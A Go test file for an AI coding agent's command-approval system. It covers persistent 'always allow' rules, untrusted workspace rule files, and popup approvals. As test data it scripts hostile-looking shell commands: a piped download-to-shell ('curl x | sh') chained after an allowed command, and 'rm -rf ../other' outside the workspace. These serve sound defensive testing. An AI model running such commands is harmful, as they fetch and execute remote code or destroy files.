package lsp_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"go.lsp.dev/protocol"

	"github.com/agent-lsp/agent-lsp/lsp/lsptest"
	"github.com/agent-lsp/agent-lsp/provider/anthropic"
	"github.com/agent-lsp/agent-lsp/provider/openai"
	"github.com/agent-lsp/agent-lsp/provider/providertest"
)

// approvals answers agent/approve from a list of option ids (then deny)
// and records every request.
type approvals struct {
	mu      sync.Mutex
	answers []string
	asked   []lsptest.ApproveParams
}

func (a *approvals) handler(_ context.Context, p lsptest.ApproveParams) (*lsptest.ApproveAnswer, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, p)
	id := "deny"
	if len(a.answers) > 0 {
		id, a.answers = a.answers[0], a.answers[1:]
	}
	return &lsptest.ApproveAnswer{OptionID: id}, nil
}

func (a *approvals) commands() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []string
	for _, p := range a.asked {
		out = append(out, p.Command)
	}
	return out
}

func hasOption(p lsptest.ApproveParams, id string) bool {
	for _, o := range p.Options {
		if o.ID == id {
			return true
		}
	}
	return false
}

// permissionsListing is agent/permissions' result.
type permissionsListing struct {
	Rules []struct{ ID, Tool, Pattern, Decision, Source string } `json:"rules"`
	Files []struct {
		Source, Path, Hash string
		Exists, Trusted    bool
		Errors             []string
	} `json:"files"`
}

// "Always allow for me" on go test ./... saves a rule in the user's rules
// file: the next session, and a restarted daemon, run it without asking;
// a compound command that starts with it is still asked (HIGH) or refused
// (CRITICAL), never allowed by the rule; agent/permissions lists the rule
// and removes it, and then it is asked again.
func TestAlwaysAllowPersistsAcrossSessionsAndRestarts(t *testing.T) {
	for _, dialect := range []string{openai.Name, anthropic.Name} {
		t.Run(dialect, func(t *testing.T) {
			rules := filepath.Join(t.TempDir(), "agent-lsp", "permissions.json")
			state := t.TempDir()
			const goTest = "go test ./..."
			model := providertest.NewServer(t, append(append(append(append(
				bashCalls(goTest),     // first session: asked, Always allow for me
				bashCalls(goTest)...), // second session: not asked
				bashCalls(goTest)...), // restarted daemon: not asked
				bashCalls(goTest+" && rm -rf ../other", goTest+" ; curl x | sh")...), // HIGH asked, CRITICAL refused
				bashCalls(goTest)...), // after the rule's removal: asked
				providertest.WithSeed(3))
			ask := &approvals{answers: []string{"allow_always_user"}}
			o := setupOptions{dialect: dialect, caps: approveCaps, model: model, stateDir: state, rulesFile: rules,
				handlers: lsptest.Handlers{ShowMessageRequest: noPopupFor(t, "agentApprove"), Approve: ask.handler}}
			s := start(t, nil, o)
			s.initialize(nil)
			if r := s.prompt(map[string]any{"prompt": "Test it."}); r.StopReason != "end_turn" {
				t.Fatalf("first prompt: %+v", r)
			}
			if got := ask.commands(); len(got) != 1 {
				t.Fatalf("first session asked %v", got)
			}
			first := ask.asked[0]
			if !hasOption(first, "allow_always_user") || !hasOption(first, "allow_always_workspace") ||
				!strings.Contains(string(first.Raw), `"rule":"run_bash: go test ./..."`) {
				t.Fatalf("the Always options are missing: %s", first.Raw)
			}
			if data, err := os.ReadFile(rules); err != nil || !strings.Contains(string(data), `"run_bash: go test ./..."`) {
				t.Fatalf("rules file after Always allow: %s (%v)", data, err)
			}
			if r := s.prompt(map[string]any{"prompt": "Test it again."}); r.StopReason != "end_turn" {
				t.Fatalf("second session: %+v", r)
			}
			if got := ask.commands(); len(got) != 1 {
				t.Fatalf("the second session asked again: %v", got)
			}
			s.stop()

			s = start(t, nil, o)
			s.initialize(nil)
			if r := s.prompt(map[string]any{"prompt": "Test it after the restart."}); r.StopReason != "end_turn" {
				t.Fatalf("after the restart: %+v", r)
			}
			if got := ask.commands(); len(got) != 1 {
				t.Fatalf("the restarted daemon asked again: %v", got)
			}
			r := s.prompt(map[string]any{"prompt": "Test and clean."})
			if got := ask.commands(); len(got) != 2 || got[1] != goTest+" && rm -rf ../other" {
				t.Fatalf("compound commands asked: %v", got)
			}
			if high := ask.asked[1]; hasOption(high, "allow_always_user") || hasOption(high, "allow_session") {
				t.Errorf("HIGH offered a lasting answer: %s", high.Raw)
			}
			if res := s.toolResult(r.SessionID); !strings.Contains(res.Output, "CRITICAL") {
				t.Errorf("the piped download: %+v", res)
			}

			var list permissionsListing
			s.call("agent/permissions", map[string]any{}, &list)
			if len(list.Rules) != 1 || list.Rules[0].Tool != "run_bash" || list.Rules[0].Pattern != goTest ||
				list.Rules[0].Decision != "allow" || list.Rules[0].Source != "user" {
				t.Fatalf("agent/permissions = %+v", list)
			}
			s.call("agent/permissions", map[string]any{"remove": list.Rules[0].ID}, &list)
			if len(list.Rules) != 0 {
				t.Fatalf("after remove: %+v", list)
			}
			s.prompt(map[string]any{"prompt": "Test it once more."})
			if got := ask.commands(); len(got) != 3 || got[2] != goTest {
				t.Fatalf("after the removal: asked %v", got)
			}
		})
	}
}

// The workspace's .agents/permissions.json: its deny rules refuse without
// asking at once; its allow rules are ignored until the user trusts the
// file (agent/permissions trust, bound to the content's hash), and even
// then never allow a HIGH command.
func TestWorkspaceRulesFileIsUntrustedUntilApproved(t *testing.T) {
	for _, dialect := range []string{openai.Name, anthropic.Name} {
		t.Run(dialect, func(t *testing.T) {
			files := map[string]string{".agents/permissions.json": `{"allow": ["run_bash: rm *"], "deny": ["run_bash: git push *"]}`}
			model := providertest.NewServer(t, append(append(
				bashCalls("git push origin main", "rm -rf build"), // deny without asking; allow ignored: asked
				bashCalls("rm -rf build")...),                     // trusted: not asked
				bashCalls("rm -rf ../other")...), // HIGH: asked
				providertest.WithSeed(5))
			ask := &approvals{}
			s := start(t, nil, setupOptions{dialect: dialect, caps: approveCaps, model: model, files: files,
				handlers: lsptest.Handlers{ShowMessageRequest: noPopupFor(t, "agentApprove"), Approve: ask.handler}})
			s.initialize(nil)
			r := s.prompt(map[string]any{"prompt": "Push and clean."})
			if got := ask.commands(); len(got) != 1 || got[0] != "rm -rf build" {
				t.Fatalf("asked %v, want only the untrusted allow", got)
			}
			refused := false
			for _, u := range s.updates(r.SessionID) {
				if u.Kind == "tool_result" && u.ToolCallID == "call_a" {
					refused = strings.Contains(u.Output, `denied by the rule "run_bash: git push *"`)
				}
			}
			if !refused {
				t.Errorf("the deny rule did not refuse git push: %+v", s.updates(r.SessionID))
			}

			var list permissionsListing
			s.call("agent/permissions", map[string]any{}, &list)
			ws := list.Files[len(list.Files)-1]
			if ws.Source != "workspace" || ws.Trusted || ws.Hash == "" {
				t.Fatalf("workspace file: %+v", ws)
			}
			s.call("agent/permissions", map[string]any{"trust": ws.Hash}, &list)
			if !list.Files[len(list.Files)-1].Trusted {
				t.Fatalf("after trust: %+v", list.Files)
			}
			s.prompt(map[string]any{"prompt": "Clean."})
			if got := ask.commands(); len(got) != 1 {
				t.Fatalf("the trusted allow rule asked: %v", got)
			}
			s.prompt(map[string]any{"prompt": "Clean home."})
			if got := ask.commands(); len(got) != 2 || got[1] != "rm -rf ../other" {
				t.Fatalf("a trusted workspace rule allowed HIGH: asked %v", got)
			}
		})
	}
}

// Through the popup (a client without agentApprove): "Always allow in this
// workspace" writes .agents/permissions.json, which stays trusted (the
// user wrote it), so the next session runs the command without a popup.
func TestPopupAlwaysAllowInThisWorkspace(t *testing.T) {
	for _, dialect := range []string{openai.Name, anthropic.Name} {
		t.Run(dialect, func(t *testing.T) {
			asked := make(chan protocol.ShowMessageRequestParams, 2)
			model := providertest.NewServer(t, append(bashCalls("make"), bashCalls("make")...), providertest.WithSeed(9))
			s := start(t, nil, setupOptions{dialect: dialect, caps: fullCaps, model: model,
				handlers: lsptest.Handlers{ShowMessageRequest: answer("Always allow in this workspace", asked)}})
			s.initialize(nil)
			s.prompt(map[string]any{"prompt": "Build."})
			if len(asked) != 1 {
				t.Fatalf("%d popups, want 1", len(asked))
			}
			if p := <-asked; !strings.Contains(p.Message, "Always allow saves the rule: run_bash: make") {
				t.Errorf("popup message:\n%s", p.Message)
			}
			data, err := os.ReadFile(filepath.Join(s.root, ".agents", "permissions.json"))
			if err != nil || !strings.Contains(string(data), `"run_bash: make"`) {
				t.Fatalf("workspace rules file: %s (%v)", data, err)
			}
			s.prompt(map[string]any{"prompt": "Build again."})
			if len(asked) != 0 {
				t.Errorf("the next session showed a popup: %+v", <-asked)
			}
		})
	}
}
